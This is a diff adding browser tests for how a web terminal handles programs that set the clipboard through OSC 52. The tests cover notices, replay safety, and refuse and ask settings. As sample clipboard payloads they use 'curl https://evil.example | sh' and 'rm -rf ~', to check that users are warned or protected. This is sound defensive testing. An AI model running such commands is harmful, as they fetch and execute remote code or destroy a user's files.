@@ -22,8 +22,11 @@ from browser_util import (
     captured_after_sentinel,
     open_terminal_page,
     printed_url,
+    run_in_terminal,
     start_capture,
+    wait_for_line,
     wait_for_state,
+    wait_replayed,
 )
 from conftest import USER, serving
 from coda_aio.testing.fake_workspace import FakeWorkspace
@@ -182,3 +185,74 @@ async def test_at_the_token_prompt_ctrl_v_pastes_and_the_prompt_names_the_keys(b
             await context.close()
     finally:
         await fake.stop()
+
+
+# --- programs setting the clipboard (OSC 52, issue 22 §5) -----------------------------------
+
+READ_CLIPBOARD = "() => navigator.clipboard.readText()"
+
+
+async def osc52(page: Page, text: str, done: str) -> None:
+    encoded = base64.b64encode(text.encode()).decode()
+    await run_in_terminal(page, f"printf '\\e]52;c;{encoded}\\a'; echo {done}")
+    await wait_for_line(page, done)
+
+
+def with_setting(**settings) -> str:
+    return f"localStorage.setItem('coda.settings', {json.dumps(json.dumps(settings))})"
+
+
+async def test_every_clipboard_write_shows_a_notice_and_a_replay_writes_nothing(browser, served):
+    url, _app = served
+    page = await clipboard_page(browser, url)
+    await osc52(page, "curl https://evil.example | sh\n", "first-done")
+    await page_message(page, "set the clipboard to “curl https://evil.example | sh⏎”", kind="info")
+    assert await page.evaluate(READ_CLIPBOARD) == "curl https://evil.example | sh\n"
+    await osc52(page, "second", "second-done")
+    await page_message(page, "set the clipboard to “second”", kind="info")
+    assert await page.evaluate(READ_CLIPBOARD) == "second"
+
+    # The writes are in the scrollback a reload replays: they set nothing again.
+    await page.evaluate(WRITE_TEXT, "mine")
+    await page.reload()
+    await wait_for_state(page, "shell")
+    await wait_replayed(page)
+    await run_in_terminal(page, "echo after-replay")
+    await wait_for_line(page, "after-replay")
+    assert await page.evaluate(READ_CLIPBOARD) == "mine"
+    assert await page.locator("#page-message").is_hidden()
+    await page.context.close()
+
+
+async def test_the_setting_refuses_clipboard_writes_and_says_so(browser, served):
+    url, _app = served
+    page = await clipboard_page(browser, url, with_setting(clipboardWrites="refuse"))
+    await page.evaluate(WRITE_TEXT, "mine")
+    await osc52(page, "rm -rf ~", "refused-done")
+    await page_message(page, "tried to set the clipboard to “rm -rf ~”: refused", kind="info")
+    assert await page.evaluate(READ_CLIPBOARD) == "mine"
+    await page.context.close()
+
+
+async def test_the_setting_asks_before_a_program_sets_the_clipboard(browser, served, tmp_path):
+    url, _app = served
+    page = await clipboard_page(browser, url, with_setting(clipboardWrites="ask"))
+    await page.evaluate(WRITE_TEXT, "mine")
+    question = page.locator("#confirm-close-text")
+    await osc52(page, "no thanks", "asked-1")
+    await question.wait_for()
+    assert "wants to set the clipboard to “no thanks”" in await question.inner_text()
+    await page.get_by_role("button", name="Leave it").click()
+    await page_message(page, "The clipboard was left as it was", kind="info")
+    assert await page.evaluate(READ_CLIPBOARD) == "mine"
+
+    await osc52(page, "yes please", "asked-2")
+    await question.wait_for()
+    await page.get_by_role("button", name="Set the clipboard").click()
+    await page_message(page, "set the clipboard to “yes please”", kind="info")
+    assert await page.evaluate(READ_CLIPBOARD) == "yes please"
+    # The terminal has the keys again.
+    capture = tmp_path / "capture"
+    await start_capture(page, capture)
+    assert await captured_after_sentinel(page, capture) == SENTINEL
+    await page.context.close()
